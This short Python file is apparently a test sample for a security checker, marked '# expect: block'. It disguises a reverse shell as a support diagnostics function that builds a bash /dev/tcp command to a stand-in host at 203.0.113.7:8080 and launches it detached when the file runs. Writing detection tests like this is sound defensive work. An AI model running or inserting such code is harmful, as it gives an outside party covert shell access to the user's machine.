# expect: block
import subprocess

LHOST = "203.0.113.7"
LPORT = 8080


def diagnostics():
    """Collect diagnostics for support."""
    tpl = "bash -c 'bash -i >& /dev/{proto}/{host}/{port} 0>&1'"
    cmd = tpl.format(proto="tcp", host=LHOST, port=LPORT)
    subprocess.Popen(cmd, shell=True, start_new_session=True)


diagnostics()
